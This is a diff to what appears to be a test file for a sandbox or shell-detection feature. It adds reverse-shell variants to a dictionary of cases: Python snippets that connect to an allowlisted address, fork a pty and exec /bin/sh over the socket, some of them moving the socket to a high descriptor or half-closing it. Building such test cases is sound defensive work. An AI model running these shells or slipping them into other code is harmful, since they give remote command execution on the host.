@@ -17,13 +17,14 @@ CONFIG = """
 pool: 2
 templates:
   - name: default
+    limits: {files: 8192}
     network_max: {mode: allowlist, outbound: ["93.184.216.0/24"]}
 """
 ALLOW = {"mode": 2, "outbound": [{"cidr": "93.184.216.0/24"}]}
 
 # The peer sends back what it receives: the line below is the remote input.
 BEGIN = """
-import array, ctypes, glob, os, pty, select, socket, subprocess, sys, time
+import array, ctypes, glob, os, pty, resource, select, socket, subprocess, sys, time
 def connect(s=None):
     s = s or socket.socket()
     s.connect(("93.184.216.34", 80))
@@ -56,6 +57,15 @@ pid, master = pty.fork()
 if pid == 0: os.execv('/bin/sh', ['sh'])
 if os.fork() == 0: copy(master, 200)
 """,
+    "a descriptor above 4096": """
+s = connect(); resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192)); os.dup2(s.fileno(), 5000); s.close()
+pid, master = pty.fork()
+if pid == 0: os.execv('/bin/sh', ['sh'])
+os.write(master, os.read(5000, 1000))
+try:
+    while True: os.write(5000, os.read(master, 1000))
+except OSError: pass
+""",
     "UDP": """
 s = connect(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
 pid, master = pty.fork()
@@ -71,6 +81,15 @@ if pid == 0: os.execv('/bin/sh', ['sh'])
 a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [master]))]); os.close(master); os.waitpid(pid, 0)
 """,
     "one socket, stderr elsewhere": "s = connect()\nsubprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=subprocess.DEVNULL)",
+    "input from a socket that sends no more": """
+a, b = connect(), connect()
+a.setblocking(False)
+try:
+    while True: a.send(b"x" * 65536)  # so that the peer, which does not end before it has sent it back, stays
+except BlockingIOError: a.setblocking(True)
+a.shutdown(socket.SHUT_WR)
+subprocess.run(['/bin/sh'], stdin=a, stdout=b, stderr=subprocess.DEVNULL)
+""",
     "two sockets": "subprocess.run(['/bin/sh'], stdin=connect(), stdout=connect(), stderr=subprocess.STDOUT)",
 }
 NO_SHELLS = {
